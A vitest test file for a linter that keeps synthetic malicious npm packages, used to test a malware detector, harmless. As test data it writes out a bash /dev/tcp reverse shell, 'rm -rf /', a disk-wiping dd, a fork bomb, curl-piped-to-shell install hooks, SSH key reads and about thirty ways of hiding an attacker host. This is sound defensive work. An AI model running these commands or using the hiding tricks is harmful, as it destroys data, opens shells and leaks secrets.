import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  png,
  reversed,
  tagCharacters,
  variationSelectors,
  wav,
  xored,
  zeroWidth,
} from '../testing/src/simulants/encode.ts';
import {
  armed,
  finding,
  fires,
  latchCommand,
  pkg,
  quiet,
  type Simulant,
  type SimulantFile,
} from '../testing/src/simulants/simulant.ts';
import { checkCheckout, checkSimulants, checkSource } from './simulant-lint.ts';
import { coverageOf, gapsIn, tableOf } from './simulant-lint-coverage.ts';
import { hostsIn, isHarmless } from './simulant-lint-hosts.ts';
import { maxBinaryBytes } from './simulant-lint-rules.ts';

// A host that exists, put together here so that no scanner of ours reads it in this file.
const real = ['collector', 'evil-corp', 'com'].join('.');
const url = `http://${real}/x`;
const kept = "fetch('http://a.simulant.invalid/').catch(() => {});";

function positive(files: Record<string, SimulantFile>, manifest: Record<string, unknown> = {}): Simulant {
  return {
    id: 'b01-bad',
    row: 'B01',
    kind: 'positive',
    form: 'plain',
    packages: [pkg('bad', files, manifest)],
    expect: fires('malicious', [finding('exfil.canary-egress', 'critical', ['canary.egress'])]),
    note: '',
  };
}

const script = (body: string) => positive({ 'index.js': armed`${body}` });
const problemsOf = (simulant: Simulant) => checkSimulants([simulant]).join('\n');

describe('the simulants of this checkout', () => {
  it('keep every rule and cover every row and finding id', () => {
    expect(checkCheckout(join(import.meta.dirname, '..'))).toEqual([]);
  });
});

describe('a host outside the allowed ranges is found', () => {
  const b64 = (plain: string | Uint8Array) => Buffer.from(plain).toString('base64');
  it.each<[string, Simulant]>([
    ['in an address', script(`${kept} fetch('${url}');`)],
    ['in base64', script(`${kept} fetch(atob('${b64(url)}'));`)],
    ['in base64 of base64', script(`${kept} run('${b64(b64(url))}');`)],
    ['in hex', script(`${kept} run('${Buffer.from(url).toString('hex')}');`)],
    ['in hex under a one-byte key', script(`${kept} run('${xored(url, 61).toString('hex')}');`)],
    ['compressed', script(`${kept} run('${gzipSync(url).toString('base64')}');`)],
    ['backwards', script(`${kept} run('${reversed(url)}');`)],
    ['percent-encoded', script(`${kept} run('${[...url].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}');`)],
    ['as character codes', script(`${kept} run([${[...url].map((c) => c.charCodeAt(0)).join()}]);`)],
    ['in pieces', script(`${kept} run('collector.evil' + '-corp' + '.com');`)],
    ['in a joined list', script(`${kept} run(['collector', 'evil-corp', 'com'].join('.'));`)],
    ['as the rest of a name', script(`${kept} dns.resolve(data + '.evil-corp.com');`)],
    ['as the rest of a shell’s name', positive({ 'a.sh': 'getent hosts "$part.evil-corp.com"\n' })],
    ['in a template', script(`${kept} run(\`\${'collector'}.evil-corp.com\`);`)],
    ['as an option', script(`${kept} require('node:http').get({ host: 'evil.museum' });`)],
    ['after a port', script(`${kept} require('node:net').connect(25, 'evil.museum');`)],
    ['as an address', script(`${kept} fetch('http://8.8.8.8/');`)],
    ['as a decimal address', script(`${kept} fetch('http://134744072/');`)],
    ['as a hexadecimal address', script(`${kept} fetch('http://0x08080808/');`)],
    ['as an IPv6 address', script(`${kept} fetch('http://[2606:4700::1111]/');`)],
    ['in cloud metadata outside its row', script(`${kept} fetch('http://169.254.169.254/');`)],
    ['in invisible selectors', positive({ 'README.md': `x${variationSelectors(url)}` })],
    ['in tag characters', positive({ 'README.md': `x${tagCharacters(url)}` })],
    ['in zero-width bits', positive({ 'README.md': `x${zeroWidth(url)}` })],
    ['after a picture', positive({ 'a.png': png({ trailer: url }) })],
    ['in sound', positive({ 'a.wav': wav(url) })],
    ['on a command line', positive({}, { scripts: { postinstall: `${latchCommand}curl -fs ${real}/x` } })],
    ['in a manifest', positive({}, { repository: url })],
    ['in what the registry says', { ...positive({}), packages: [pkg('bad', {}, {}, { homepage: url })] }],
    [
      'in a dependency',
      { ...positive({}), packages: [pkg('a', {}), pkg('b', { 'index.js': armed`${kept} fetch('${url}');` })] },
    ],
    ['in the previous version', { ...positive({}), previous: pkg('bad', { 'README.md': url }) }],
  ])('%s', (_, simulant) => {
    expect(problemsOf(simulant)).toMatch(/names the host/);
  });

  it.each([
    'localhost',
    '127.0.0.1',
    '192.0.2.7',
    '198.51.100.200',
    '203.0.113.9',
    '2001:db8::1',
    '::1',
    'a.b.invalid',
    'x.test',
  ])('but %s is harmless', (host) => {
    expect(isHarmless(host)).toBe(true);
  });

  it.each([
    'invalid.example.com',
    'evilinvalid',
    'test.io',
    '192.0.20.1',
    '198.51.101.1',
    '2001:db9::1',
    '10.0.0.1',
    '169.254.169.254',
  ])('and %s is not', (host) => {
    expect(isHarmless(host)).toBe(false);
  });

  it('file names, members and versions are no hosts', () => {
    expect(hostsIn("require('./lib/post.js'); process.env.HOME; 'logo.png'; 'v1.2.3'; request.end(body)")).toEqual([]);
  });
});

describe('what acts without the latch is found', () => {
  it.each<[string, Simulant]>([
    ['no latch at all', positive({ 'index.js': kept })],
    ['the latch after the act', positive({ 'index.js': `${kept}\nrequire('@assay-simulant/latch');` })],
    [
      'an entry reached by a second export',
      positive(
        { 'index.js': armed`1;`, 'plugin.js': kept },
        { exports: { '.': './index.js', './plugin': './plugin.js' } },
      ),
    ],
    ['a hook of native tools', positive({}, { scripts: { preinstall: 'curl -fs http://a.simulant.invalid/' } })],
    ['a hook’s script', positive({ 'setup.js': kept }, { scripts: { postinstall: 'node setup.js' } })],
    ['a file required by an unarmed one', positive({ 'index.js': "require('./lib/a');", 'lib/a.js': kept })],
    ['a command', positive({ 'cli.js': `#!/usr/bin/env node\n${kept}` }, { bin: 'cli.js' })],
  ])('%s', (_, simulant) => {
    expect(problemsOf(simulant)).toMatch(/acts before the latch is loaded/);
  });

  it('a file reached only from an armed one may act', () => {
    expect(checkSimulants([positive({ 'index.js': armed`require('./lib/a');`, 'lib/a.js': kept })])).toEqual([]);
  });
});

describe('what could harm is found', () => {
  it.each<[string, Simulant, RegExp]>([
    ['removing the root', positive({ 'a.sh': 'rm -rf /\n' }), /removes a root/],
    ['removing home', positive({ 'a.sh': 'rm -r -f "$HOME"\n' }), /removes a root or a whole home/],
    [
      'removing home in encoded text',
      script(`run('${Buffer.from('rm -rf ~').toString('base64')}');`),
      /removes a root/,
    ],
    [
      'removing home by name',
      script("require('node:fs').rmSync(os.homedir(), { recursive: true });"),
      /removes a whole home/,
    ],
    ['a device', positive({ 'a.sh': 'dd if=/dev/zero of=/dev/sda\n' }), /destroys a file system/],
    ['more rights', positive({ 'a.sh': 'sudo true\n' }), /more rights/],
    [
      'a download into a shell',
      positive({}, { scripts: { install: `${latchCommand}curl -s http://a.test/x | sh` } }),
      /pipes a download/,
    ],
    ['a shell on a socket', script(`${kept} spawn('/bin/sh', ['-i']);`), /starts a shell/],
    ['bash on a device', positive({ 'a.sh': 'bash -i >& /dev/tcp/203.0.113.1/1 0>&1\n' }), /binds a socket/],
    ['an endless storm', positive({ 'a.sh': ':(){ :|:& };:\n' }), /process storm/],
    ['a host from the environment', script(`${kept} fetch(process.env.TARGET_URL);`), /from outside/],
    ['the configured registry', script(`${kept} fetch(process.env.npm_config_registry);`), /from outside/],
    [
      'an address out of an answer',
      script(`${kept} net(/([a-z0-9-]+\\.[a-z]+)/.exec(answer)[1]);`.replace('invalid', 'test')),
      /without limiting it/,
    ],
    ['a network without a host', script("require('node:net').connect(options);"), /names no host/],
    ['a system file', script("require('node:fs').writeFileSync('/etc/cron.d/x', '');"), /names \/etc\/cron\.d\/x/],
    ['another user', script("read('/root/.ssh/id_rsa');"), /names \/root/],
    ['a token', positive({ 'a.json': `"npm_${'a1B2'.repeat(9)}"` }), /real token/],
    ['a wallet', positive({ 'a.json': '"0x52908400098527886E0F7030069857D2E4169EE7"' }), /real wallet/],
    ['a large binary', positive({ 'a.bin': new Uint8Array(maxBinaryBytes + 1) }), /is a binary of/],
    ['a large package', positive({ 'a.txt': 'x'.repeat(70_000) }), /at most 65536/],
  ])('%s', (_, simulant, says) => {
    expect(problemsOf(simulant)).toMatch(says);
  });

  it('home, temporary and package folders may be named', () => {
    const body = `${kept} write(os.homedir() + '/.bashrc'); write('/tmp/x'); write('/home/dev/x'); get('/v1/users');`;
    expect(checkSimulants([script(body)])).toEqual([]);
  });
});

describe('what makes the set unusable is found', () => {
  const good = script(kept);
  it.each<[string, Simulant[], RegExp]>([
    ['a file that does not parse', [script("const = 'x';")], /does not parse/],
    ['an id twice', [good, good], /another of this id/],
    ['an id of another row', [{ ...good, id: 'b02-bad' }], /does not begin with its row/],
    ['a positive of a benign row', [{ ...good, id: 'g01-bad', row: 'G01' }], /has the row G01/],
    ['a positive without findings', [{ ...good, expect: { findings: [], never: [] } }], /expects a finding/],
    [
      'a finding without evidence',
      [{ ...good, expect: { findings: [finding('exfil.host-info', 'high', [])], never: [] } }],
      /names its evidence/,
    ],
    [
      'a neighbour without a bound',
      [{ ...good, kind: 'neighbour', expect: { findings: [], never: [] } }],
      /bounds its level/,
    ],
    [
      'a package with another name',
      [{ ...good, packages: [{ manifest: { name: 'left-pad', version: '1.0.0' }, files: {} }] }],
      /not named as a simulant/,
    ],
  ])('%s', (_, simulants, says) => {
    expect(checkSimulants(simulants).join('\n')).toMatch(says);
  });

  it('a source with a real host or an opaque constant', () => {
    expect(checkSource('a.ts', `row: 'B01', fetch('${url}')`)).toEqual([`a.ts: names the host ${real}`]);
    expect(checkSource('a.ts', `const blob = '${'QUJD'.repeat(40)}';`).join()).toMatch(/opaque constant/);
    expect(checkSource('a.ts', "row: 'B19', 'http://169.254.169.254/'")).toEqual([]);
  });
});

describe('coverage', () => {
  it('counts a neighbour for its own row and for those it is near', () => {
    const neighbour: Simulant = {
      ...script(''),
      id: 'g01-x',
      row: 'G01',
      near: ['B02'],
      kind: 'neighbour',
      expect: quiet(['exec.']),
    };
    const { rows, ids } = coverageOf([neighbour]);
    expect(rows.find(({ name }) => name === 'B02')).toMatchObject({ positive: 0, neighbour: 1, evasion: 0 });
    expect(rows.find(({ name }) => name === 'G01')).toMatchObject({ neighbour: 1 });
    expect(ids.find(({ name }) => name === 'exec.fetched-code')).toMatchObject({ neighbour: 1 });
  });

  it('names every gap of an empty set', () => {
    const gaps = gapsIn(coverageOf([]));
    expect(gaps).toContain('B01: has no positive');
    expect(gaps).toContain('G20: has no neighbour');
    expect(gaps).toContain('c2.reverse-shell: has no evasion');
    expect(gaps).not.toContain('G20: has no positive');
  });

  it('prints one line per row', () => {
    const { rows } = coverageOf([]);
    expect(tableOf(rows).split('\n')).toHaveLength(rows.length + 1);
  });
});
